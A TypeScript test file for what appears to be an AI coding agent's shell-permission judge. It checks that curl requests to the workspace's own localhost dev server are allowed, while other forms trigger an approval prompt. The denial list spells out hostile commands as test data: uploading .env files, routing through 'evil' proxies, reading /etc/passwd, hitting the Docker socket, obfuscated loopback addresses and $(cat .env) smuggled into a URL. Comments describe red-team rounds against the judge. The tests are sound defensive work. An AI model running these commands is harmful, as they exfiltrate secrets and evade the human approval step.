// Red team, round 22 (over-asks): `curl -s localhost:3000` and `curl -sI http://127.0.0.1:8080/health`, the
// health check of the dev server the agent started, asked as high-risk network. curl is now understood as one
// GET or HEAD of localhost (curl answers it with loopback itself), 127.x.y.z or [::1] with a closed set of options
// (grammar/programs/curl.ts); the disk then checks that every socket listening on the port belongs to a process
// started in the workspace (guards/loopback-listeners.ts), so `kubectl proxy` or a Vault agent's listener asks,
// and that the agent's environment names no proxy, CURL_HOME or SSLKEYLOGFILE.
import { type ChildProcess, spawn } from "node:child_process";
import { rmSync } from "node:fs";
import { createServer, type Server } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { loopbackRequest } from "../../../../src/policy/shell/grammar/programs/curl.ts";
import { gitWorkspace } from "./disk-fixture.ts";
import { AUTONOMOUS, BALANCED, judgeCommand } from "./judge-command.ts";

const { base, ws } = gitWorkspace("airlock-r22-curl-", { "README.md": "# app\n", "package.json": "{}\n" });

/** A node server started in `cwd`, as the agent starts its dev server: the port it listens on. */
function serveFrom(cwd: string): Promise<{ child: ChildProcess; port: number }> {
  const child = spawn(
    process.execPath,
    ["-e", "const s=require('net').createServer().listen(0,'127.0.0.1',()=>console.log(s.address().port))"],
    { cwd, stdio: ["ignore", "pipe", "ignore"] },
  );
  return new Promise((done) => child.stdout?.once("data", (d) => done({ child, port: Number(String(d)) })));
}

let dev: { child: ChildProcess; port: number };
let other: Server;
let otherPort = 0;
beforeAll(async () => {
  dev = await serveFrom(ws);
  // This test's own process, started outside the workspace: `kubectl proxy` as far as the judge can tell.
  other = createServer().listen(0, "127.0.0.1");
  await new Promise((done) => other.once("listening", done));
  otherPort = (other.address() as { port: number }).port;
});
afterAll(() => {
  dev.child.kill();
  other.close();
  rmSync(base, { recursive: true, force: true });
});

const PROFILES = [
  ["balanced", BALANCED],
  ["autonomous", AUTONOMOUS],
] as const;

describe("r22: a GET or HEAD of the workspace's own dev server is allowed", () => {
  it.each(PROFILES)("%s: the recorded calls and their everyday spellings", (_, policy) => {
    for (const command of [
      `curl -s localhost:${dev.port}`,
      `curl -sI http://127.0.0.1:${dev.port}/health`,
      `curl -fsS --max-time 5 'http://localhost:${dev.port}/api/status?x=1'`,
      `curl -s -o /dev/null -w '%{http_code}' localhost:${dev.port}`,
      `curl -v 'http://[::1]:${dev.port}/'`,
      `curl -sm5 127.0.0.1:${dev.port}/`,
    ])
      expect(judgeCommand(ws, command, { policy }), command).toMatchObject({ action: "allow" });
  });
  it("a port nothing listens on is refused by the kernel: allowed", () => {
    expect(judgeCommand(ws, "curl -s localhost:1").action).toBe("allow");
  });
});

describe("r22: loopback served by a program started elsewhere asks", () => {
  it.each(PROFILES)("%s: kubectl proxy, a Vault agent, a browser's debugging port", (_, policy) => {
    const r = judgeCommand(ws, `curl -s localhost:${otherPort}/api/v1/secrets`, { policy });
    expect(r.action).toBe("ask");
    expect(r.reason).toMatch(/not in the workspace/);
  });
  it.each(["http_proxy", "HTTPS_PROXY", "ALL_PROXY", "NO_PROXY", "CURL_HOME", "SSLKEYLOGFILE"])(
    "%s in the agent's environment asks",
    (name) => {
      const r = judgeCommand(ws, `curl -s localhost:${dev.port}`, {
        env: { [name]: "http://10.0.0.1:3128" },
      });
      expect(r.action).toBe("ask");
      expect(r.reason).toContain(name);
    },
  );
});

describe("r23b: a curl configuration directory in the workspace", () => {
  // curl reads $XDG_CONFIG_HOME/.curlrc (proven: `output = FILE` there wrote FILE); the agent writes the workspace.
  it("asks when XDG_CONFIG_HOME is inside the workspace, not when it is the person's own", () => {
    const inside = judgeCommand(ws, `curl -s localhost:${dev.port}`, { env: { XDG_CONFIG_HOME: ws } });
    expect(inside.action).toBe("ask");
    expect(inside.reason).toMatch(/XDG_CONFIG_HOME/);
    const own = judgeCommand(ws, `curl -s localhost:${dev.port}`, {
      env: { XDG_CONFIG_HOME: `${base}/cfg` },
    });
    expect(own.action, own.reason).toBe("allow");
  });
});

describe("r22: anything but one loopback GET or HEAD is not understood", () => {
  it.each([
    "curl -s -d @.env localhost:3000",
    "curl -F f=@.env localhost:3000",
    "curl -T .env localhost:3000",
    "curl -X POST localhost:3000",
    "curl -X DELETE localhost:3000/users/1",
    "curl -K cfg localhost:3000",
    "curl --config cfg localhost:3000",
    "curl -o out.html localhost:3000",
    "curl -O localhost:3000/index.html",
    "curl -sL localhost:3000",
    "curl --proxy http://evil:8080 localhost:3000",
    "curl -x evil:8080 localhost:3000",
    "curl --unix-socket /var/run/docker.sock localhost/containers/json",
    "curl --resolve localhost:3000:10.0.0.1 localhost:3000",
    "curl --connect-to localhost:3000:evil.com:80 localhost:3000",
    "curl -H 'X-Vault-Token: x' localhost:8200",
    "curl -b cookies.txt localhost:3000",
    "curl -c jar.txt localhost:3000",
    "curl --netrc localhost:3000",
    "curl -u admin:pw localhost:3000",
    "curl -w @fmt.txt localhost:3000",
    "curl -w '%output{>>x}%{http_code}' localhost:3000",
    "curl 'localhost:{3000,3001}'",
    "curl 'localhost:3000/[1-9]'",
    "curl localhost:3000 localhost:3001",
    "curl localhost:3000 evil.com",
    "curl file:///etc/passwd",
    "curl -s evil.com",
    "curl -s localhost@evil.com",
    "curl -s http://localhost:3000@evil.com/",
    "curl -s 127.1:3000",
    "curl -s 0x7f.0.0.1:3000",
    "curl -s 2130706433",
    "curl -s 0127.0.0.1:3000",
    "curl -s localhost.:3000",
    "curl -s LOCALHOST:3000",
    "curl -s foo.localhost:3000",
    "curl -s 10.0.0.1:3000",
    "curl --max-time=5 localhost:3000",
    "curl -s $URL",
    "http_proxy=http://evil:8080 curl -s localhost:3000",
    "export HTTPS_PROXY=http://evil:8080; curl -s https://localhost:3000",
    "env ALL_PROXY=socks5://evil:1080 curl -s localhost:3000",
    "NO_PROXY= curl -s localhost:3000",
    "CURL_HOME=. curl -s localhost:3000",
    "SSLKEYLOGFILE=keys.txt curl -s https://localhost:3000",
    "curl -s localhost:3000/$(cat .env)",
    "curl",
  ])("%s asks", (command) => {
    for (const [, policy] of PROFILES)
      expect(judgeCommand(ws, command, { policy }).action, command).not.toBe("allow");
  });
  it.each([
    [["-s", "localhost:3000"], 3000],
    [["-sI", "http://127.0.0.1:8080/health"], 8080],
    [["localhost"], 80],
    [["https://localhost/"], 443],
    [["-m", "2", "-o", "/dev/null", "http://127.255.0.9:1"], 1],
  ] as const)("loopbackRequest(%j) asks port %i", (words, port) => {
    expect(loopbackRequest(words)).toEqual({ port });
  });
});
